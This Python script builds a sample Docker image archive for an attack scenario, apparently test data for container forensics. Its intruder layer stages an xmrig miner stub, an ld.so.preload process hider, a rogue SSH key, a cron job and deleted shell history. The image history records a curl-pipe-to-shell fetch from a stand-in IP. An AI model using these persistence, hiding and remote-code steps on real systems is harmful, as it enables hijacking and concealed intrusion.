"""Writes samples/images/backdoored-web.tar: the attack story's re-pushed image as `docker save`
would archive it (legacy layout). Layer 0 is a tiny Debian-like base (os-release, a dpkg
database); layer 1 is what the intruder added: an xmrig binary with its pool URL, a config, an
ld.so.preload entry to hide it, an SSH key, a cron job, and the root shell history deleted.
Deterministic: re-running gives the same bytes.

usage: python3 scripts/make-sample-image.py
"""
import hashlib
import io
import json
import os
import tarfile

OUT = os.path.join(os.path.dirname(__file__), "..", "samples", "images", "backdoored-web.tar")


def tar_bytes(files):
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w", format=tarfile.USTAR_FORMAT) as t:
        for name, data, mode in files:
            info = tarfile.TarInfo(name)
            info.size = len(data)
            info.mode = mode
            info.mtime = 1732000000
            t.addfile(info, io.BytesIO(data))
    return buf.getvalue()


STATUS = b"""Package: nginx
Status: install ok installed
Version: 1.2.1-2.2+wheezy2
Architecture: amd64

Package: libc6
Status: install ok installed
Source: eglibc
Version: 2.13-38+deb7u4
Architecture: amd64
"""

base = tar_bytes([
    ("etc/os-release", b'PRETTY_NAME="Debian GNU/Linux 7 (wheezy)"\nID=debian\nVERSION_ID="7"\n', 0o644),
    ("var/lib/dpkg/status", STATUS, 0o644),
    ("usr/sbin/nginx", b"\x7fELF nginx (sample)", 0o755),
    ("root/.bash_history", b"apt-get install nginx\n", 0o600),
])
backdoor = tar_bytes([
    ("usr/local/bin/xmrig", b"\x7fELF (sample) -o stratum+tcp://pool.example.net:4444 -u wallet", 0o755),
    ("usr/local/etc/config.json", b'{"donate-level": 0, "pools": [{"url": "pool.example.net:4444"}]}\n', 0o644),
    ("etc/ld.so.preload", b"/usr/local/lib/libprocesshider.so\n", 0o644),
    ("root/.ssh/authorized_keys", b"ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIsample intruder\n", 0o600),
    ("etc/cron.d/sync", b"*/5 * * * * root /usr/local/bin/xmrig --background\n", 0o644),
    ("root/.wh..bash_history", b"", 0o644),
])
layers = [base, backdoor]
steps = ["ADD rootfs.tar /", "RUN curl -fsSL http://203.0.113.7/i.sh | sh && rm -f /root/.bash_history"]
config = json.dumps({
    "architecture": "amd64", "os": "linux",
    "config": {"Cmd": ["nginx", "-g", "daemon off;"], "ExposedPorts": {"80/tcp": {}}},
    "rootfs": {"type": "layers", "diff_ids": ["sha256:" + hashlib.sha256(l).hexdigest() for l in layers]},
    "history": [{"created": "2026-11-20T10:00:00Z", "created_by": s} for s in steps],
}, sort_keys=True).encode()
config_name = hashlib.sha256(config).hexdigest() + ".json"
members = [(hashlib.sha256(l).hexdigest() + "/layer.tar", l, 0o644) for l in layers]
manifest = json.dumps([{"Config": config_name, "RepoTags": ["111122223333.dkr.ecr.us-east-1.amazonaws.com/web:1.4"],
                        "Layers": [m for m, _, _ in members]}]).encode()
os.makedirs(os.path.dirname(OUT), exist_ok=True)
with open(OUT, "wb") as f:
    f.write(tar_bytes(members + [(config_name, config, 0o644), ("manifest.json", manifest, 0o644)]))
print(OUT)
